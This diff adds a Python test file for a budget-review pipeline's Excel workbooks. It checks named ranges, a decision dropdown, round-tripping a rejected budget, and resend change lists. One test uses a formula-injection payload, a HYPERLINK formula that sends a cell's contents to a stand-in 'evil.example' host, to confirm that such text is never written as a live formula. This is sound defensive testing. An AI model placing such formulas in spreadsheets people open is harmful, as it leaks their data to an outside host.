@@ -1,0 +1,139 @@
+"""The workbooks we write: the review workbook's contract, the rejected workbook's round trip,
+and no live formula in anything a person opens."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+from decimal import Decimal
+from pathlib import Path
+
+import openpyxl
+
+from pipeline.adapters.budget_reader import read_budget
+from pipeline.adapters.budget_validation import check_budget
+from pipeline.adapters.decision_reader import read_decision
+from pipeline.adapters.rejected_workbook import write_rejected_workbook
+from pipeline.adapters.review_workbook import write_review_workbook
+from pipeline.adapters.rules_files import ValidationRules
+from pipeline.domain.budget import BudgetDocument, BudgetLine, LineKey
+from pipeline.domain.changes import assess_resend
+from pipeline.domain.lifecycle import Action, Submission
+from pipeline.domain.review import LineFlag, Rejection
+from pipeline.services.ports import ReviewContent
+
+NOW = datetime(2026, 11, 27, 9, 30, tzinfo=UTC)
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _line(row: int, code: str, kind: str, amount: str, description: str = "Work") -> BudgetLine:
+    return BudgetLine(row, "", code, kind, description, Decimal(amount))
+
+
+def _document(lines: tuple[BudgetLine, ...]) -> BudgetDocument:
+    return BudgetDocument(
+        "P-7", lines, "Depot", "Ada Admin", sum((line.amount for line in lines), Decimal("0.00"))
+    )
+
+
+def _content(document: BudgetDocument, resend=None) -> ReviewContent:
+    submission = Submission(
+        "P-7",
+        2 if resend else 1,
+        Action.SEND,
+        "in.xlsx",
+        "0" * 64,
+        "f",
+        "Ada Admin",
+        NOW,
+        "P-7_v1_review.xlsx",
+        len(document.lines),
+        str(document.total),
+    )
+    return ReviewContent(submission, document, ["Carl Accountant"], [], resend)
+
+
+def test_review_workbook_has_the_contracted_names_dropdown_and_line_columns(tmp_path: Path):
+    target = tmp_path / "review.xlsx"
+    write_review_workbook(_content(_document((_line(2, "01-100", "L", "10.00"),))), target)
+
+    book = openpyxl.load_workbook(target)
+    for name in ("Decision", "Reason", "Approver"):
+        destinations = list(book.defined_names[name].destinations)
+        assert len(destinations) == 1 and destinations[0][0] == "Review"
+    sheet, ref = next(iter(book.defined_names["Decision"].destinations))
+    validations = book[sheet].data_validations.dataValidation
+    assert any(
+        ref.replace("$", "") in str(v.sqref) and v.formula1 == '"Accept,Reject"'
+        for v in validations
+    )
+    header = [c.value for c in book["Lines"][1]]
+    assert "Line Decision" in header and "Line Note" in header
+
+
+def test_a_blank_review_workbook_reads_as_no_decision(tmp_path: Path):
+    target = tmp_path / "review.xlsx"
+    write_review_workbook(_content(_document((_line(2, "01-100", "L", "10.00"),))), target)
+    decision = read_decision(target)
+    assert (decision.answered, decision.flags) == (False, ())
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path):
+    document = _document((_line(2, "01-100", "L", "10.00", HOSTILE),))
+    review, rejected = tmp_path / "review.xlsx", tmp_path / "rejected.xlsx"
+    write_review_workbook(_content(document), review)
+    write_rejected_workbook(document, Rejection(1, "Carl", NOW, (HOSTILE,), ()), rejected)
+
+    for path in (review, rejected):
+        book = openpyxl.load_workbook(path)
+        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+        assert any(c.value == HOSTILE for c in cells)
+        assert not [c.coordinate for c in cells if c.data_type == "f"], path.name
+
+
+def test_the_rejected_workbook_reads_back_as_the_same_budget(tmp_path: Path):
+    lines = (
+        _line(2, "01-100", "L", "12000.00"),
+        _line(3, "03-300", "M", "45000.50"),
+        BudgetLine(
+            4,
+            "B",
+            "09-900",
+            "S",
+            "Paint",
+            Decimal("8000.00"),
+            Decimal("2.5"),
+            "EA",
+            Decimal("3200"),
+        ),
+    )
+    document = _document(lines)
+    rejection = Rejection(
+        1, "Carl", NOW, ("too high",), (LineFlag(LineKey("", "03-300", "M"), "check"),)
+    )
+    target = tmp_path / "rejected.xlsx"
+    write_rejected_workbook(document, rejection, target)
+
+    again, problems = check_budget(read_budget(target), ValidationRules())
+
+    assert problems == []
+    assert again is not None
+    assert again.fingerprint() == document.fingerprint()
+    assert again.prepared_by == "Ada Admin"
+
+
+def test_resend_review_lists_changes_and_reasons(tmp_path: Path):
+    before = (_line(2, "01-100", "L", "10.00"), _line(3, "02-200", "M", "20.00"))
+    after = (_line(2, "01-100", "L", "15.00"), _line(3, "04-400", "E", "5.00"))
+    rejection = Rejection(
+        1, "Carl", NOW, ("01-100 is too low",), (LineFlag(LineKey("", "02-200", "M"), "not ours"),)
+    )
+    target = tmp_path / "review.xlsx"
+    write_review_workbook(
+        _content(_document(after), assess_resend(before, after, rejection)), target
+    )
+
+    book = openpyxl.load_workbook(target)
+    changes = [(r[0].value, r[2].value) for r in book["Changes"].iter_rows(min_row=2)]
+    assert changes == [("amount changed", "01-100"), ("added", "04-400"), ("removed", "02-200")]
+    statuses = [r[2].value for r in book["Earlier Reasons"].iter_rows(min_row=4)]
+    assert statuses == ["looks addressed", "looks addressed"]
